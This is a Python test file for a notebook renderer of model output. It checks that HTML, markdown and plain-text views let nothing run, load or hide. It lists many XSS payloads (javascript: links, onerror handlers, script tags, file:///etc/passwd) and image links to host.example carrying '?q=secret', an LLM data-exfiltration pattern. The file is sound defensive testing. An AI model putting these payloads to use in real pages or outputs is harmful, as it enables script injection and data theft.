"""Whatever a model, a tool or a name contains: the cell shows it, and nothing runs, loads, links or hides."""

import json
import re
import shutil
from collections.abc import Iterator
from html.parser import HTMLParser

import pytest

from llmproc_nb.core.message import clean
from llmproc_nb.core.provider import Delta
from llmproc_nb.core.visible import visible
from llmproc_nb.notebook.formula import safe_formula
from llmproc_nb.notebook.fragment import STYLES
from llmproc_nb.notebook.html import CELL_STYLES
from llmproc_nb.notebook.progress import live_bundle
from llmproc_nb.notebook.table import dry_run_bundle, error_html, table_html
from llmproc_nb.notebook.turn import Turn
from llmproc_nb.notebook.view import bundle
from tests.paths import SHARED, needs_shared
from tests.turns import finished, tool_turn

HOSTILE = SHARED / "hostile"
TAG_WORDS = "div span strong em s p br hr h1 h2 h3 h4 h5 h6 code pre blockquote ul ol li table thead tbody tr th td a details summary"
TAGS = set(TAG_WORDS.split())
LINK = re.compile(r"(?i)(?:https?://|mailto:)[^\s\"'<>`\\]+")

OURS = [
    "![x](https://host.example/?q=secret)",
    "![x][r]\n\n[r]: https://host.example/?q=secret",
    "![r]\n\n[r]: <https://host.example/?q=secret> 'title'",
    "[![x](https://host.example/i.png)](javascript:alert(1))",
    "[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [c](java\tscript:alert(1)) [d](&#106;avascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [v](vbscript:x)",
    "[f](file:///etc/passwd) [r](/lab/tree/x) [h](#command)",
    "<https://host.example/> <javascript:alert(1)> https://host.example/x",
    "![x](attachment:secret.png) ![y](data:image/svg+xml;base64,AAAA)",
    '```mermaid\ngraph TD; A-->B; click A href "javascript:alert(1)"\n```',
    "```{raw} html\n<img src=x onerror=alert(1)>\n```\n\n{raw}`<b>x</b>` and {.class #id onclick=alert(1)}",
    r"$\href{javascript:alert(1)}{x}$ and \(\includegraphics{https://host.example/x}\) and \[\require{html}\]",
    r"\begin{equation}\href{javascript:alert(1)}{x}\end{equation} $$\def\a{\href{javascript:alert(1)}{b}}\a$$",
    r"$\csname href\endcsname{javascript:alert(1)}{x}$ $\text{\unicode{x41}}$ $\style{background:url(https://host.example)}{x}$",
    "`$$`\n\n```\n$$\n```\n\ntext\n\n```\n<img src=https://host.example/x onerror=alert(1)>\n```",
    "- ```\n  echo $A\n  ```\n\ntext $x$\n\n```\n$ <script>alert(1)</script>\n```",
    "`\\\\[`\n\n```\n\\\\]\n```\n\n```\n<script>alert(1)</script>\n```",
    "`\\begin{x}`\n\n```\n\\end{x}\n```\n\n```\n<iframe src=https://host.example></iframe>\n```",
    "~~~\n```\n~~~\n<script>alert(1)</script>\n````\n``` \n<script>alert(2)</script>\n````",
    "| a | b |\n|---|---|\n| `|` <script>alert(1)</script> | ![x](https://host.example/x) |",
    "<details ontoggle=alert(1) open><summary>x</summary></details><!-- c --><![CDATA[x]]><?php x ?><base href=//host.example>",
    '<div style="position:fixed;inset:0;background:url(https://host.example/x)">x</div><form action=//host.example><input></form>',
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "&#32;&#32;&#32;&#32;<script>alert(1)</script>&#10;&#10;<img src=x onerror=alert(1)>",
    "[a]: javascript:alert(1)\n[a] [b][a]\n\n[^1]: <script>alert(1)</script>",
    "\\<script>alert(1)\\</script> \\![x](https://host.example/x) \\\\![x](https://host.example/x)",
    "@@0@@ @@1@@ ~D ~T $a$ @@0@@",
    "*" * 300 + "[" * 300 + "](" * 300 + ">" * 300,
    "a\u202eb\u2066c\u200bd\u2028e\x00f\x1b]8;;https://host.example\x07g\x9bh\ud800i\ufffej",
]


def vectors() -> Iterator[str]:
    yield from OURS
    if not HOSTILE.is_dir():
        return
    yield from json.loads((HOSTILE / "blns.json").read_text())
    for name in ("xss/MarioXSSVectors.txt", "xss/XSS_Polyglots.txt"):
        text = (HOSTILE / name).read_text()
        yield text
        yield from text.splitlines()
    yield "".join(json.loads((HOSTILE / "xss/JupyterNotebookXSS.ipynb").read_text())["cells"][0]["source"])
    for payload in json.loads((HOSTILE / "llm/markdown_js.json").read_text())["payloads"]:
        yield from (payload, f"[x]({payload})", f"![x]({payload})", f"[x][r]\n\n[r]: {payload}", f"<{payload}>", f"[x](<{payload}>)")
    for domain in (HOSTILE / "llm/xss_domains.txt").read_text().split():
        yield f"![x](https://{domain}/?q=secret) ![y][r]\n\n[r]: //{domain}/x"
    for path in sorted((HOSTILE / "ansi").iterdir()):
        yield path.read_bytes().decode("utf-8", "surrogateescape")
    for path in sorted((HOSTILE / "json").iterdir()):
        yield path.read_bytes()[:4000].decode("utf-8", "replace")


ALL = list(vectors())


class Reader(HTMLParser):
    """Reads HTML and complains about anything that is not on the list."""

    def __init__(self, *, of_viewer: bool = False) -> None:
        super().__init__(convert_charrefs=True)
        self.of_viewer, self.faults, self.stack = of_viewer, [], []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS and not (self.of_viewer and tag == "del"):
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if not self._allowed(tag, name, value or ""):
                self.faults.append(f"<{tag} {name}={value!r}>")
        if tag not in ("br", "hr"):
            self.stack.append(tag)
        self.text.append("\0")

    handle_startendtag = handle_starttag  # type: ignore[assignment]

    def _allowed(self, tag: str, name: str, value: str) -> bool:
        if self.of_viewer and (name in ("class", "id") or (tag == "a" and name in ("href", "title") and value.startswith("#"))):
            return True
        if name == "style":
            return (
                value in STYLES
                or (tag in ("th", "td") and value in CELL_STYLES)
                or (self.of_viewer and re.fullmatch(r"text-align:\s*(left|right|center)", value) is not None)
            )
        if tag == "a":
            return (name == "href" and LINK.fullmatch(value) is not None) or (name == "rel" and value == "noopener noreferrer nofollow")
        return (tag == "ol" and name == "start") or (tag == "details" and name == "open")

    def handle_endtag(self, tag: str) -> None:
        if tag in self.stack:
            while self.stack.pop() != tag:
                pass
        self.text.append("\0")

    def handle_data(self, data: str) -> None:
        if not {"pre", "code"} & set(self.stack):
            self.text.append(data)

    def handle_comment(self, data: str) -> None:
        self.faults.append(f"comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        self.faults.append(f"declaration {decl!r}")

    unknown_decl = handle_decl

    def handle_pi(self, data: str) -> None:
        self.faults.append(f"instruction {data!r}")


def faults(html: str, *, of_viewer: bool = False) -> list[str]:
    """What is in this HTML that must not be, formulas included: a typesetter looks at each run of text outside of code."""
    reader = Reader(of_viewer=of_viewer)
    reader.feed(html)
    reader.close()
    found = reader.faults
    for run in "".join(reader.text).split("\0"):
        for pattern in (r"\\\((.*?)\\\)", r"\\\[(.*?)\\\]", r"\$\$(.+?)\$\$", r"(?<!\$)\$([^$]+)\$(?!\$)"):
            found += [f"formula {body!r}" for body in re.findall(pattern, run, re.DOTALL) if safe_formula(body) is None]
        if re.search(r"\\begin", re.sub(r"\\[(\[].*?\\[)\]]|\$+[^$]*\$+", "", run)):
            found.append(f"environment in {run!r}")
    return found


def turn_of(vector: str):
    """A turn with the same text in every place a model, a tool or a person's name has."""
    said = clean(vector)  # a draft does so with all that comes in
    tools = [tool_turn(said, {"a": said, said: 1}, said, "failed"), tool_turn("ok", {}, said, call_id="c2")]
    return finished(said, thinking=said, tools=tools, process=vector, program=vector, model=vector, detail=vector, stop_reason="refusal")


@needs_shared
def test_the_hostile_texts_are_there():
    assert len(ALL) > 900


def test_html_of_any_text_holds_only_what_we_put_there():
    wrong = {vector: found for vector in ALL if (found := faults(bundle(turn_of(vector), notes=[vector])["text/html"]))}
    assert wrong == {}


def test_html_of_a_turn_under_way_holds_only_what_we_put_there():
    wrong = {}
    for vector in ALL:
        turn = Turn(process=vector, program=vector, provider=vector, model=vector)
        for piece in (Delta("thinking", vector), Delta("tool", vector), Delta("text", vector[: len(vector) // 2]), Delta("text", vector)):
            turn.delta(piece)
        turn.warnings.append(vector)
        if found := faults(live_bundle(turn)["text/html"]):
            wrong[vector] = found
        turn.delta(Delta("wait", vector))
        turn.failed(vector)
        if found := faults(live_bundle(turn)["text/html"]):
            wrong[vector] = found
    assert wrong == {}


def test_tables_errors_and_requests_hold_only_what_we_put_there():
    made = [f"{table_html([[v, None]], [v, 'x'])}{error_html(v)}{dry_run_bundle({v: [v]})['text/html']}" for v in ALL]
    assert {vector: found for vector, html in zip(ALL, made, strict=True) if (found := faults(html))} == {}


def test_markdown_of_any_text_is_harmless_in_nbconvert():
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    wrong = {}
    for vector in ALL:
        html = markdown2html_mistune(bundle(turn_of(vector))["text/markdown"])
        if found := faults(re.sub(r'<a class="anchor-link" href="#[^"]*">¶</a>', "", html), of_viewer=True):
            wrong[vector] = found
    assert wrong == {}


def test_markdown_of_any_text_is_harmless_where_raw_html_is_on():
    from markdown_it import MarkdownIt

    viewer = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    wrong = {v: found for v in ALL if (found := faults(viewer.render(bundle(turn_of(v))["text/markdown"]), of_viewer=True))}
    assert wrong == {}


def test_plain_text_of_any_text_moves_no_cursor_and_hides_nothing():
    acting = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff]")
    wrong = [vector for vector in ALL if acting.search(bundle(turn_of(vector))["text/plain"]) or acting.search(visible(vector))]
    assert wrong == []


def test_bundles_of_any_text_are_json_and_the_same_twice():
    for vector in ALL:
        first, second = (json.dumps(bundle(turn_of(vector)), ensure_ascii=False).encode() for _ in range(2))
        assert first == second


def test_a_browser_loads_the_page_of_all_texts_and_nothing_else():
    sync_api = pytest.importorskip("playwright.sync_api")
    chromium = shutil.which("chromium")
    if chromium is None:
        pytest.skip("no chromium on this machine")
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    shown = [bundle(turn_of(vector)) for vector in ALL]
    body = "".join(made["text/html"] for made in shown) + "".join(
        markdown2html_mistune(made["text/markdown"]) for made in shown[: len(OURS)]
    )
    asked: list[str] = []
    with sync_api.sync_playwright() as playwright:
        args = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking"]
        browser = playwright.chromium.launch(executable_path=chromium, args=args)
        page = browser.new_page()
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: (asked.append(f"dialog {dialog.message}"), dialog.dismiss()))
        page.set_content(f"<!doctype html><meta charset=utf-8><body>{body}</body>")
        page.evaluate("for (const fold of document.querySelectorAll('details')) fold.open = true")
        page.wait_for_timeout(300)
        counted = page.evaluate(
            "[document.querySelectorAll('details').length, document.querySelectorAll('script,img,iframe,svg,style,form').length]"
        )
        browser.close()
    assert asked == []
    assert counted == [body.count("<details "), 0]
